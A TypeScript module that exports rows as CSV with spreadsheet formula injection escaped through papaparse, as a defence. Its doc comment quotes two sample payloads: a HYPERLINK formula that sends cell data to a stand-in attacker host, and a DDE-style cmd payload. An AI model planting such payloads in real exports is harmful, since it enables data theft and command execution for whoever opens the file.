import Papa from 'papaparse'

/**
 * A cell a spreadsheet would run as a formula: one starting with = or @ (after any blanks), a
 * tab or a carriage return, or + / − followed by anything but a plain number — so a customer
 * named `=HYPERLINK("http://evil.example/?x="&A1,"click")` or `-2+3+cmd|' /C calc'!A0` is
 * written as text, while a phone (+919876543210) or a negative amount (-600.00) stays as it is.
 */
export const FORMULA = /^(?:[\t\r]|\s*[=@]|\s*[+-](?!\d+(?:[.,]\d+)*$))/

/**
 * Rows as CSV, formulae escaped (papaparse prefixes such a cell with ' and quotes it). Every
 * export goes through here (tests/int/security.test.ts checks that nothing else writes CSV).
 */
export function toCsv(rows: Record<string, string | number>[], columns: string[]): string {
  return Papa.unparse(rows, { columns, escapeFormulae: FORMULA })
}
